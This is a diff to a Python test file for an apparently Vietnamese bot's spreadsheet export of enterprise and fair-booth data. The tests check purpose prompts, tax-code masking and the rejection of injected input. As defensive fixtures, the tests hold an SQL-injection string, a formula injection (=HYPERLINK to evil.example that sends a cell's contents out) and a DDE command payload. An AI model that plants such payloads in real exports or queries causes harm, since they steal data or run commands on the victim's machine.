@@ -74,6 +74,8 @@ def _rows(ws: Worksheet) -> list[dict[str, object]]:
 async def test_a_moderator_exports_the_approved_ceramics_makers(app: App) -> None:
     moderator = await member(app, Role.MODERATOR)
     await tap(moderator, "export:e:approved:ceramics:-:-:xlsx")
+    assert "để làm gì" in moderator.text  # the purpose is asked first
+    await moderator.press("Liên hệ với các cơ sở")
     ws = _sheet(moderator.last.document)
     rows = _rows(ws)
     assert [r["Tên cơ sở"] for r in rows] == ["Cơ sở gốm Minh Hải", "Xưởng sơn mài Hạ Thái"]
@@ -101,6 +103,7 @@ async def test_a_moderator_exports_the_approved_ceramics_makers(app: App) -> Non
         "format": "xlsx",
         "rows": 2,
         "personal": True,
+        "purpose": "contact",
     }
 
 
@@ -109,7 +112,7 @@ async def test_a_viewer_gets_no_phones_or_tax_codes(app: App) -> None:
     viewer = await member(app, Role.VIEWER)
     await tap(viewer, "export:e:-:-:-:-:show")
     assert "số điện thoại" in viewer.text.lower()
-    await tap(viewer, "export:e:-:-:-:-:xlsx")
+    await tap(viewer, "export:e:-:-:-:-:xlsx.report")
     ws = _sheet(viewer.last.document)
     headers = [c.value for c in ws[1]]
     assert "Số điện thoại" not in headers and "Mã số thuế" not in headers
@@ -127,6 +130,7 @@ async def test_the_ward_filter_is_typed_and_the_csv_has_a_bom(app: App) -> None:
     await moderator.press("Xã Thường Tín")
     assert "Xã Thường Tín" in moderator.text
     await moderator.press("CSV")
+    await moderator.press("Tổ chức hội chợ")
     document = moderator.last.document
     assert document is not None and document.filename.endswith(".csv")
     assert document.content.startswith(b"\xef\xbb\xbf")
@@ -145,7 +149,7 @@ async def test_booth_applications_of_one_fair(app: App) -> None:
             await svc.booths.apply(fair.id, e.id, e.account_id, 2, "Bình gốm men rạn", "Cần điện")
             await svc.booths.apply(other.id, e.id, e.account_id, 1, "Khác")
     moderator = await member(app, Role.MODERATOR)
-    await tap(moderator, f"export:b:-:-:-:{fair.id}:xlsx")
+    await tap(moderator, f"export:b:-:-:-:{fair.id}:xlsx.fair")
     document = moderator.last.document
     assert document is not None and "test-fair" in document.filename
     rows = _rows(_sheet(document))
@@ -160,6 +164,61 @@ async def test_booth_applications_of_one_fair(app: App) -> None:
 
 async def test_a_forged_filter_is_not_trusted(app: App) -> None:
     moderator = await member(app, Role.MODERATOR)
-    await tap(moderator, "export:e:'; DROP TABLE enterprises;--:-:-:-:xlsx")
+    await tap(moderator, "export:e:'; DROP TABLE enterprises;--:-:-:-:xlsx.fair")
     assert moderator.last.document is None
     assert "xuất" in moderator.text.lower()
+
+
+async def test_personal_id_numbers_are_masked_even_for_moderators(app: App) -> None:
+    await add_enterprise(app, "p1", "Hộ gốm Minh Hải", tax_code="001085012345")
+    moderator = await member(app, Role.MODERATOR)
+    await tap(moderator, "export:e:-:-:-:-:xlsx.review")
+    [row] = _rows(_sheet(moderator.last.document))
+    assert row["Mã số thuế"] == "0010******45"
+    assert row["Số điện thoại"] == "0912 345 678"
+
+
+async def test_a_purpose_not_offered_asks_again(app: App) -> None:
+    moderator = await member(app, Role.MODERATOR)
+    await tap(moderator, "export:e:-:-:-:-:csv.whatever")
+    assert moderator.last.document is None
+    assert [b.payload for b in moderator.options][:2] == [
+        "export:e:-:-:-:-:csv.fair",
+        "export:e:-:-:-:-:csv.review",
+    ]
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+async def test_what_registrants_typed_is_never_a_formula_in_either_format(app: App) -> None:
+    svc = app.router.services
+    e = await add_enterprise(
+        app, "p1", HYPERLINK, contact="@SUM(1+1)", status=EnterpriseStatus.APPROVED
+    )
+    fair = await make_fair(app, booths=5)
+    async with svc.db.transaction():
+        await svc.booths.apply(fair.id, e.id, e.account_id, 2, "-2+3+cmd|' /C calc'!A0", "+1 bàn")
+    moderator = await member(app, Role.MODERATOR)
+    for what in ("e", "b"):
+        await tap(moderator, f"export:{what}:-:-:-:-:xlsx.report")
+        ws = _sheet(moderator.last.document)
+        cells = [cell for row in ws.iter_rows() for cell in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        assert not [c.value for c in cells if str(c.value).startswith(FORMULA_START)]
+        row = _rows(ws)[0]
+        assert row["Tên cơ sở"] == "'" + HYPERLINK
+        assert row["Người liên hệ"] == "'@SUM(1+1)"
+        assert row["Số điện thoại"] == "0912 345 678"
+        if what == "b":
+            assert row["Sản phẩm"] == "'-2+3+cmd|' /C calc'!A0"
+            assert row["Nhu cầu đặc biệt"] == "'+1 bàn"
+            assert row["Số gian hàng"] == 2  # a number still
+        await tap(moderator, f"export:{what}:-:-:-:-:csv.report")
+        document = moderator.last.document
+        assert document is not None
+        text = document.content.decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        assert not [v for r in rows for v in r if v.startswith(FORMULA_START)]
+        assert "'" + HYPERLINK in rows[1]
